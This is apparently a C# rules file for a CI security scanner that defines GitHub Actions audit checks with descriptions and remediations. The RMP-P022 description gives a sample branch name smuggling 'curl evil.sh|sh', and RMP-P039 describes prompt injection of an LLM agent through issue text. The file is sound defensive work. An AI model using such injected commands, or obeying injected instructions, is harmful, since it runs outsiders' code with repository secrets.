using Rampart.Core.Findings;
using Rampart.Core.Rules;

namespace Rampart.Pipeline;

/// <summary>The rules of the GitHub Actions audits (RMP-P020 to RMP-P049), in one place so ids are never reused.</summary>
public static class WorkflowRules
{
    public static Rule UntrustedCheckoutInPrivilegedWorkflow { get; } = new()
    {
        Id = RuleId.Parse("RMP-P020"),
        Name = "untrusted-checkout-in-privileged-workflow",
        Title = "A pull_request_target or workflow_run workflow checks out the pull request's code",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.Critical,
        DefaultConfidence = Confidence.High,
        Description = "pull_request_target and workflow_run run with the base repository's secrets and a write token, even for a pull request from a fork. Checking out the pull request's head and then building, installing or testing it runs the outsider's code (a build script, a package hook, a test) with those secrets.",
        Remediation = "Use the pull_request trigger to build untrusted code. If a privileged step is needed, split the workflow: build on pull_request, upload the result as an artifact, and let a workflow_run workflow consume only that data, never the pull request's code.",
        Cwe = [829],
    };

    public static Rule DangerousWorkflowTrigger { get; } = new()
    {
        Id = RuleId.Parse("RMP-P021"),
        Name = "dangerous-workflow-trigger",
        Title = "The workflow runs on pull_request_target or workflow_run",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.Medium,
        Description = "pull_request_target and workflow_run run in the base repository's context, with its secrets and a token that can write, but they can be started by anyone who opens a pull request. Any step that touches the pull request's content (code, branch name, title, artifacts) becomes a way in.",
        Remediation = "Prefer pull_request. Keep pull_request_target only for metadata work (labelling, commenting) that never reads the pull request's code or text, with least-privilege permissions.",
        Cwe = [829],
    };

    public static Rule UntrustedInputInScript { get; } = new()
    {
        Id = RuleId.Parse("RMP-P022"),
        Name = "untrusted-input-in-script",
        Title = "A run or github-script step expands text an outsider controls",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Description = "GitHub replaces ${{ }} expressions before the shell or the script engine sees the text. An issue title, a comment body or a branch name like a\";curl evil.sh|sh;\" becomes code that runs with the job's token and secrets.",
        Remediation = "Pass the value through env: (env: TITLE: ${{ github.event.issue.title }}) and use the variable (\"$TITLE\" in the shell, process.env.TITLE in github-script), so it stays data.",
        Cwe = [94],
    };

    public static Rule MissingWorkflowPermissions { get; } = new()
    {
        Id = RuleId.Parse("RMP-P023"),
        Name = "missing-workflow-permissions",
        Title = "The workflow does not set permissions, so jobs get the default token",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.Medium,
        DefaultConfidence = Confidence.High,
        Description = "Without a permissions: block the GITHUB_TOKEN gets the repository's default permissions, which are read-write for repositories created before February 2023 and for many organisations. Any compromised step can then push code, create releases or approve pull requests.",
        Remediation = "Add permissions: contents: read (or permissions: {}) at the top of the workflow, and grant a job the write scope it needs in the job itself.",
        Cwe = [250],
    };

    public static Rule WriteAllPermissions { get; } = new()
    {
        Id = RuleId.Parse("RMP-P024"),
        Name = "write-all-permissions",
        Title = "The workflow or a job grants the token write-all",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Description = "permissions: write-all gives the GITHUB_TOKEN every write scope: contents, packages, actions, pull requests, deployments and more. One compromised dependency or injected command can then rewrite the repository and its releases.",
        Remediation = "Replace write-all with the scopes the job needs, e.g. permissions: { contents: read, pull-requests: write }.",
        Cwe = [250],
    };

    public static Rule WritePermissionsOnBuildJob { get; } = new()
    {
        Id = RuleId.Parse("RMP-P025"),
        Name = "write-permissions-on-build-job",
        Title = "A job that only builds or tests is given write permissions",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.Medium,
        DefaultConfidence = Confidence.Medium,
        Description = "Build and test jobs run the most third-party code (packages, test fixtures, build plugins) and need only to read the repository. A write scope there lets any of that code push commits, tag releases or publish packages.",
        Remediation = "Drop the write scopes from build and test jobs (permissions: contents: read) and move the step that needs to write into its own job.",
        Cwe = [250],
    };

    public static Rule UnpinnedAction { get; } = new()
    {
        Id = RuleId.Parse("RMP-P026"),
        Name = "unpinned-action",
        Title = "An action or reusable workflow is referenced by a tag or branch instead of a commit SHA",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Description = "A tag or branch can be moved by whoever controls the action's repository. If that repository is compromised (as tj-actions/changed-files was in 2025), every workflow that uses the tag runs the attacker's code with its secrets on the next run.",
        Remediation = "Pin uses: to the full 40-character commit SHA and keep the version in a comment (uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2); Dependabot and Renovate update such pins.",
        Cwe = [829],
    };

    public static Rule CheckoutPersistsCredentials { get; } = new()
    {
        Id = RuleId.Parse("RMP-P027"),
        Name = "checkout-persists-credentials",
        Title = "actions/checkout leaves the token in the repository's git config",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.Low,
        DefaultConfidence = Confidence.High,
        Description = "By default actions/checkout writes the GITHUB_TOKEN into .git/config so later git commands can push. Every later step, and any artifact that uploads the working directory, can read it.",
        Remediation = "Set persist-credentials: false on actions/checkout unless a later step pushes with git; then pass the token to that step only.",
        Cwe = [522],
    };

    public static Rule SecretsInheritedByReusableWorkflow { get; } = new()
    {
        Id = RuleId.Parse("RMP-P028"),
        Name = "secrets-inherited-by-reusable-workflow",
        Title = "A reusable workflow call passes every secret with secrets: inherit",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.Medium,
        DefaultConfidence = Confidence.High,
        Description = "secrets: inherit hands the called workflow every secret of the repository and organisation, including ones it never uses. A change in the called workflow, or in an action it uses, can then read them all.",
        Remediation = "Pass only the secrets the called workflow declares: secrets: { NPM_TOKEN: ${{ secrets.NPM_TOKEN }} }.",
        Cwe = [200],
    };

    public static Rule AllSecretsSerialized { get; } = new()
    {
        Id = RuleId.Parse("RMP-P029"),
        Name = "all-secrets-serialized",
        Title = "toJSON(secrets) exposes every secret at once",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Description = "toJSON(secrets) turns every secret available to the job into one string. Whatever receives it (a script, an action, a log line) receives all of them, and GitHub's log masking does not reliably cover the JSON form.",
        Remediation = "Reference each secret a step needs by name: ${{ secrets.DEPLOY_KEY }}.",
        Cwe = [200],
    };

    public static Rule UntrustedInputWrittenToGitHubEnv { get; } = new()
    {
        Id = RuleId.Parse("RMP-P030"),
        Name = "untrusted-input-written-to-github-env",
        Title = "A script writes text an outsider controls to GITHUB_ENV or GITHUB_PATH",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.Medium,
        Description = "Lines appended to $GITHUB_ENV become environment variables of every later step, and $GITHUB_PATH entries come first on PATH. A value with a newline in it can set LD_PRELOAD, NODE_OPTIONS or BASH_ENV and run code in the following steps, with their secrets.",
        Remediation = "Do not write untrusted values to GITHUB_ENV or GITHUB_PATH. If a later step needs the value, pass it through that step's env: or a step output, and validate it first.",
        Cwe = [74],
    };

    public static Rule UnsecureWorkflowCommandsEnabled { get; } = new()
    {
        Id = RuleId.Parse("RMP-P031"),
        Name = "unsecure-workflow-commands-enabled",
        Title = "ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables the deprecated set-env and add-path commands",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Description = "With ACTIONS_ALLOW_UNSECURE_COMMANDS set, any line a step prints that looks like ::set-env or ::add-path changes the environment of later steps. Printing an issue title or a test name is then enough to inject variables.",
        Remediation = "Remove ACTIONS_ALLOW_UNSECURE_COMMANDS and write to $GITHUB_ENV and $GITHUB_PATH files instead.",
        Cwe = [74],
    };

    public static Rule SelfHostedRunnerOnPullRequests { get; } = new()
    {
        Id = RuleId.Parse("RMP-P032"),
        Name = "self-hosted-runner-on-pull-requests",
        Title = "A workflow triggered by pull requests runs on a self-hosted runner",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Description = "A pull request from a fork can change the workflow's scripts or tests and run whatever it likes on the runner. Self-hosted runners are not wiped between jobs, so the code can persist, read other jobs' secrets and reach the internal network.",
        Remediation = "Run pull request jobs on GitHub-hosted runners, or on ephemeral, isolated self-hosted runners, and require approval for workflows from outside contributors.",
        Cwe = [668],
    };

    public static Rule RemoteScriptPipedToShell { get; } = new()
    {
        Id = RuleId.Parse("RMP-P033"),
        Name = "remote-script-piped-to-shell",
        Title = "A script downloads code and pipes it straight into a shell",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Description = "curl … | sh runs whatever the server returns at that moment, with no integrity check. A compromised host, a hijacked domain or a changed release runs in CI with the job's token and secrets.",
        Remediation = "Download to a file, check it against a pinned checksum (sha256sum -c), then run it; or use a pinned action or package instead.",
        Cwe = [494],
    };

    public static Rule UnpinnedContainerImage { get; } = new()
    {
        Id = RuleId.Parse("RMP-P034"),
        Name = "unpinned-container-image",
        Title = "A job's container or service image has no tag or uses latest",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.Medium,
        DefaultConfidence = Confidence.High,
        Description = "An image without a tag is :latest, which changes whenever its publisher pushes. The job then runs different code from one run to the next, and a compromised image reaches CI without any change in the repository.",
        Remediation = "Use a fixed version tag, or better a digest: image: postgres:16.4@sha256:….",
        Cwe = [829],
    };

    public static Rule JobWithoutTimeout { get; } = new()
    {
        Id = RuleId.Parse("RMP-P035"),
        Name = "job-without-timeout",
        Title = "A job has no timeout-minutes",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.Low,
        DefaultConfidence = Confidence.High,
        Description = "A job without timeout-minutes can run for six hours. A hung test or a crypto-miner slipped into a dependency keeps the runner busy and the bill growing.",
        Remediation = "Set timeout-minutes on every job to a few times its usual duration.",
        Cwe = [400],
    };

    public static Rule DependabotInsecureCodeExecution { get; } = new()
    {
        Id = RuleId.Parse("RMP-P036"),
        Name = "dependabot-insecure-code-execution",
        Title = "Dependabot may run code from dependencies while updating",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Description = "insecure-external-code-execution: allow lets Dependabot run a package manager's install scripts (setup.py, gemspec, Gradle) while it computes updates, with access to the registries' credentials Dependabot was given.",
        Remediation = "Remove insecure-external-code-execution, or set it to deny.",
        Cwe = [94],
    };

    public static Rule DeploySecretWithoutEnvironment { get; } = new()
    {
        Id = RuleId.Parse("RMP-P037"),
        Name = "deploy-secret-without-environment",
        Title = "A push-triggered job uses a deploy secret without a protected environment",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.Medium,
        DefaultConfidence = Confidence.Medium,
        Description = "A repository secret is available to any job in any branch's workflow. An environment can require reviewers and restrict which branches may deploy; without one, anyone who can push a branch can change the workflow and use the deploy key.",
        Remediation = "Put the job in an environment (environment: production) with required reviewers and deployment branch rules, and move the secret into that environment.",
        Cwe = [284],
    };

    public static Rule LongLivedCloudCredentials { get; } = new()
    {
        Id = RuleId.Parse("RMP-P038"),
        Name = "long-lived-cloud-credentials",
        Title = "The workflow logs in to a cloud with a long-lived key where OIDC would do",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.Medium,
        DefaultConfidence = Confidence.Medium,
        Description = "Static cloud keys stored as secrets do not expire; once leaked through a log, an artifact or a compromised action they work until someone notices. GitHub's OIDC tokens let the job get short-lived credentials scoped to this repository and branch.",
        Remediation = "Use OIDC: permissions: id-token: write, and aws-actions/configure-aws-credentials with role-to-assume, azure/login with client-id/tenant-id/subscription-id, or google-github-actions/auth with workload_identity_provider. Then delete the static key.",
        Cwe = [522],
    };

    public static Rule LlmAgentOnUntrustedInput { get; } = new()
    {
        Id = RuleId.Parse("RMP-P039"),
        Name = "llm-agent-on-untrusted-input",
        Title = "An AI agent action is fed text from issues or pull requests by outsiders",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.Medium,
        Description = "An LLM agent treats its input as instructions. Triggered by an issue, a comment or a fork's pull request, the text of that event can tell the agent to run commands, read secrets or push code with the workflow's token (prompt injection).",
        Remediation = "Do not pass event text to an agent in workflows that outsiders can trigger; gate the job on the author's association (OWNER, MEMBER, COLLABORATOR), give it read-only permissions and no secrets beyond its own API key.",
        Cwe = [1427],
    };

    public static Rule PinnedShaCommentMismatch { get; } = new()
    {
        Id = RuleId.Parse("RMP-P040"),
        Name = "pinned-sha-comment-mismatch",
        Title = "The version comment of a SHA-pinned action names another release than the SHA",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.Medium,
        DefaultConfidence = Confidence.High,
        Description = "A reviewer reads the # vX.Y.Z comment after a pinned SHA, not the SHA. When the comment names another release, the code that runs is not the code the comment promises: an old release with known bugs, or a commit slipped in under a trusted version number.",
        Remediation = "Pin the commit of the release the comment names, or correct the comment to the release the SHA belongs to; let Dependabot (package-ecosystem: github-actions) update both together.",
        Cwe = [829],
    };

    public static IReadOnlyList<Rule> All { get; } =
    [
        UntrustedCheckoutInPrivilegedWorkflow, DangerousWorkflowTrigger, UntrustedInputInScript, MissingWorkflowPermissions,
        WriteAllPermissions, WritePermissionsOnBuildJob, UnpinnedAction, CheckoutPersistsCredentials,
        SecretsInheritedByReusableWorkflow, AllSecretsSerialized, UntrustedInputWrittenToGitHubEnv, UnsecureWorkflowCommandsEnabled,
        SelfHostedRunnerOnPullRequests, RemoteScriptPipedToShell, UnpinnedContainerImage, JobWithoutTimeout,
        DependabotInsecureCodeExecution, DeploySecretWithoutEnvironment, LongLivedCloudCredentials, LlmAgentOnUntrustedInput,
        PinnedShaCommentMismatch,
    ];
}
